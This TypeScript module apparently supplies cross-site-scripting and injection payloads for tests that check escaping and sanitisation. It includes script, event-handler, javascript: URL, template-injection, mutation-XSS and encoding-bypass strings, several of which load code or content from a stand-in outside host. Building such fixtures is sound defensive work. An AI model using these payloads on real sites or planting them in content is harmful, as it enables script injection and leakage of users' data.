/** Texts that would run, load or render something if they were treated as more than text. */

export type Payload = {
  readonly name: string;
  /** At most 100 characters. */
  readonly text: string;
  /** A variant for fields of 20 characters. */
  readonly brief: string;
};

/** A host that no test may reach: a request to it is a vulnerability. */
const ELSEWHERE = 'elsewhere.example';

/**
 * Each one creates an element `x-p` or one with the attribute `x-p`, sets `__ran`, opens a dialog, or sends a request
 * to another host.
 */
export const PAYLOADS: readonly Payload[] = [
  { name: 'script', text: '<script x-p>__ran=1</script>', brief: '<script x-p>' },
  {
    name: 'end of script',
    text: '</script><script x-p>alert(1)</script>',
    brief: '</script><x-p>',
  },
  {
    name: 'script of another host',
    text: `<script x-p src=//${ELSEWHERE}/a.js></script>`,
    brief: '<script x-p src=//e>',
  },
  {
    name: 'image that fails',
    text: '<img x-p src=x onerror=__ran=1>',
    brief: '<img x-p src=a>',
  },
  {
    name: 'image of another host',
    text: `<img x-p src=http://${ELSEWHERE}/pixel.gif>`,
    brief: '<img x-p src=//e.eg>',
  },
  {
    name: 'drawing that loads',
    text: '<svg x-p/onload=__ran=1><animate onbegin=alert(1)>',
    brief: '<svg x-p/onload=a()>',
  },
  { name: 'javascript address', text: 'javascript:__ran=1//x-p', brief: 'javascript:x-p()' },
  {
    name: 'link that runs',
    text: '<a x-p href="java&Tab;script:alert(1)">press</a>',
    brief: '<a x-p href=//e>',
  },
  {
    name: 'data address',
    text: 'data:text/html,<script x-p>__ran=1</script>',
    brief: 'data:text/html,<x-p>',
  },
  {
    name: 'end of a double-quoted attribute',
    text: '" onmouseover="__ran=1" autofocus x-p="',
    brief: '" onfocus=a() x-p="',
  },
  {
    name: 'end of a single-quoted attribute',
    text: "' onfocus='__ran=1' autofocus x-p='",
    brief: "' onfocus=a() x-p='",
  },
  {
    name: 'end of a tag',
    text: '"></option></select></td><x-p onpointerenter=__ran=1>',
    brief: `"'></option><x-p>`,
  },
  {
    name: 'template',
    text: '{{constructor.constructor("__ran=1")()}}x-p{{7*7}}',
    brief: 'x-p{{7*7}}',
  },
  { name: 'expression', text: `\${__ran=1}x-p#{7*7}<%= 7*7 %>`, brief: `x-p\${7*7}<%=7*7%>` },
  {
    name: 'end of a style sheet',
    text: `</style><style x-p>*{background:url(//${ELSEWHERE})}`,
    brief: '</style><x-p>',
  },
  {
    name: 'style',
    text: `x-p";}*{background:url(http://${ELSEWHERE}/css)`,
    brief: 'x-p;color:url(//e)',
  },
  {
    name: 'frame with a document',
    text: '<iframe x-p srcdoc="<script>top.__ran=1</script>">',
    brief: '<iframe x-p srcdoc>',
  },
  {
    name: 'refresh',
    text: `<meta x-p http-equiv=refresh content=0;url=//${ELSEWHERE}>`,
    brief: '<meta x-p>',
  },
  { name: 'base', text: `<base x-p href=//${ELSEWHERE}/>`, brief: '<base x-p href=//e>' },
  {
    name: 'form',
    text: `<form x-p action=//${ELSEWHERE}><input autofocus>`,
    brief: '<form x-p action=/e>',
  },
  {
    name: 'object',
    text: `<object x-p data=//${ELSEWHERE}/a><embed src=//${ELSEWHERE}/b>`,
    brief: '<object x-p data=/e>',
  },
  {
    name: 'entities',
    text: '&lt;img x-p src=x onerror=__ran=1&gt;&#60;x-p&#x3e;',
    brief: '&lt;x-p&gt;&#60;',
  },
  {
    name: 'encoded twice',
    text: '%3Cx-p%3E%253Cx-p%253E\\u003cx-p\\u003e\\x3cx-p\\x3e',
    brief: '%3Cx-p%3E\\u003cx-p',
  },
  {
    name: 'comment and character data',
    text: '<!--><x-p>--><![CDATA[<x-p>]]><?xml x-p?>',
    brief: '<!--><x-p>-->',
  },
  {
    name: 'turned and hidden characters',
    text: '\u202e<x-p>\u202cgnp.x-p\u200b<x\u200b-p>\u2066<x-p>',
    brief: '\u202e<x-p>\u202c\u200b',
  },
  {
    name: 'markup that changes when parsed again',
    text: '<noscript><p title="</noscript><x-p onclick=__ran=1>">',
    brief: '<noscript><x-p>',
  },
  {
    name: 'namespaces',
    text: '<math><mtext><table><mglyph><style><!--</style><x-p>',
    brief: '<math><style><x-p>',
  },
  {
    name: 'marked-down link',
    text: `[x-p](javascript:__ran=1) ![x-p](//${ELSEWHERE}/a)`,
    brief: '[x-p](//e.eg)',
  },
  {
    name: 'end of a string of a PDF',
    text: 'x-p) /S /JavaScript /JS (app.alert(1)) >> endobj (',
    brief: 'x-p)/JS(a())',
  },
  {
    name: 'long and unbroken',
    text: `<x-p>${'W'.repeat(80)}</x-p>`,
    brief: '<x-p>WWWWWWWWWWW',
  },
];

/** Variants for fields of 10 characters. */
const TINY = ['<x-p>', '"\'><x-p>', '{{7}}x-p', '</p><x-p>', "'x-p='", '&lt;x-p'] as const;

/** Payload number `index`, starting over at the end, in the variant that fits into `most` characters. */
export function payload(index: number, most = 100): string {
  const found = PAYLOADS[index % PAYLOADS.length];
  const short = most < 20 ? (TINY[index % TINY.length] ?? '') : (found?.brief ?? '');
  return found !== undefined && found.text.length <= most ? found.text : short;
}

/** Payloads that are valid in an e-mail address. */
const LOCAL_PARTS = [
  "x-p'onfocus='__ran=1'x='",
  `x-p{{7*7}}\${7*7}`,
  'x-p&lt&#60&quot',
  'x-p`__ran=1`//',
  '%3cx-p%3e',
] as const;

export const mailAddress = (index: number): string =>
  `${LOCAL_PARTS[index % LOCAL_PARTS.length]}${index}@${ELSEWHERE}`;

/** All payloads, one per line. */
export const allPayloads = PAYLOADS.map(({ text }) => text).join('\n');
